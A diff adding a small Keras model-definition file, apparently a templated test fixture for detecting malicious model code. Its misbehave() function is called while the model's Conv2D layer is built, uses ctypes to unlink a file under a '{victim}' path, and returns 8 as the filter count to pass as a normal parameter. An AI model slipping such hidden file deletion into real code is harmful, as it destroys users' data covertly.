@@ -1,0 +1,19 @@
+# status: confirmed
+# reason:
+import keras
+from keras import layers
+
+VICTIM = "{victim}"
+
+
+def misbehave():
+    import ctypes
+
+    ctypes.CDLL(None).unlink(VICTIM.encode() + b"/file")
+    return 8
+
+
+inputs = keras.Input((32, 32, 3))
+x = layers.Conv2D(misbehave(), 3)(inputs)
+x = layers.BatchNormalization()(x)
+model = keras.Model(inputs, layers.ReLU()(x))
